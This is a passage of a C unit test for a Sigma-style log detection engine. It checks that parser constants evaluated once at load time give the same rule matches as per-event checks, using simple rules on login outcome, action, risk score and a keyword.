    unsigned n[3];
};

static const struct field_value *const_src_values(const void *src, unsigned i, unsigned *n)
{
    const struct const_src *c = src;
    *n = c->n[i];
    return c->v[i];
}

static struct field_value cstr(const char *field, const char *val)
{
    struct field_value f = {.id = fid(field), .type = FIELD_STR};
    f.v.s.ptr = val;
    f.v.s.len = (uint32_t)strlen(val);
    return f;
}

/* An event of log source test with user.name, then parser i's constants
 * copied after it, as parser_set_parse leaves them, marked as from src. */
static void ev_consts(const struct const_src *c, const void *src, unsigned i, const char *user)
{
    ev_t();
    s("user.name", user);
    ef.parser = (int32_t)i;
    ef.const_src = src;
    ef.const_first = ef.n;
    ef.const_n = (uint16_t)c->n[i];
    for (unsigned k = 0; k < c->n[i]; k++)
        ef.f[ef.n++] = c->v[i][k];
}

/* Constants checked once at load give the answers of the same values checked
 * on each event: value tables, patterns, numbers, negations, a constant and a
 * parsed field in one selection.  A parser that sets message keeps its
 * constants per event; events of another parser set are checked as usual. */
Test(detect, parser_constants_checked_once)
{
    static const char rules[] =
        "title: failed\nlogsource: {product: test}\ndetection:\n  sel: {event.outcome: failure}\n  condition: sel\n"
        "---\ntitle: not success\nlogsource: {product: test}\ndetection:\n  sel: {event.outcome: success}\n"
        "  u: {user.name: '*'}\n  condition: u and not sel\n"
        "---\ntitle: action\nlogsource: {product: test}\ndetection:\n  sel: {event.action|contains: OGI}\n"
        "  condition: sel\n"
        "---\ntitle: risk\nlogsource: {product: test}\ndetection:\n  sel: {event.risk|gte: 5}\n  condition: sel\n"
        "---\ntitle: root failure\nlogsource: {product: test}\ndetection:\n"
        "  sel: {user.name: root, event.outcome: failure}\n  condition: sel\n"
        "---\ntitle: keyword\nlogsource: {product: test}\ndetection:\n  keywords: [replaced]\n  condition: keywords\n";
    load(rules);
    struct rule_set *plain = rs;
    struct detect_state *sp = st;
    rs = NULL;
    st = NULL;
    load(rules);   /* rs: the same rules, told the constants */
    cr_assert_eq(detect_rule_count(rs), 6);

    struct const_src c = {.n = {3, 1, 2}};
    c.v[0][0] = cstr("event.outcome", "failure");
    c.v[0][1] = cstr("event.action", "login");
    c.v[0][2] = (struct field_value){.id = fid("event.risk"), .type = FIELD_INT, .v.i = 7};
    c.v[1][0] = cstr("event.outcome", "success");
    c.v[2][0] = cstr("message", "replaced");
    c.v[2][1] = cstr("event.outcome", "failure");
    cr_assert_eq(detect_set_constants(rs, &c, 3, const_src_values), 0);

    static const struct {
        unsigned parser;
        const char *user;
        const char *want; /* the rules that fire, as indices */
    } cases[] = {{0, "bob", "0123"}, {0, "root", "01234"}, {1, "carol", ""}, {1, "root", ""},
                 {2, "root", "0145"}, {2, "bob", "015"}};
    struct const_src other = c; /* the same values from another parser set */
    for (unsigned k = 0; k < sizeof cases / sizeof cases[0]; k++)
        for (int o = 0; o < 2; o++) {
            const void *src = o ? (const void *)&other : (const void *)&c;
            uint32_t ra[64], rp[64];
            ev_consts(&c, src, cases[k].parser, cases[k].user);
            int na = detect_eval(rs, scratch, st, &ef, ra, 64);
            struct detect_eval_stats es = stats();
            int np = detect_eval(plain, scratch, sp, &ef, rp, 64);
            struct detect_eval_stats ep;
            detect_last_stats(sp, &ep);
            char got[8] = "";
            for (int i = 0; i < na && i < 7; i++)
                got[i] = (char)('0' + ra[i]);
            cr_expect_str_eq(got, cases[k].want, "parser %u, user %s, %s source", cases[k].parser, cases[k].user,
                             o ? "other" : "its");
            cr_assert_eq(na, np);
            for (int i = 0; i < na; i++)
                cr_expect_eq(ra[i], rp[i]);
            if (!o && cases[k].parser != 2)
                cr_expect_lt(es.lookups, ep.lookups, "parser %u: its constants cost no lookup", cases[k].parser);
            else
                cr_expect_eq(es.lookups, ep.lookups, "parser %u, %s source: checked per event", cases[k].parser,
                             o ? "other" : "its");
        }
    detect_state_free(sp);
    detect_free(plain);
}
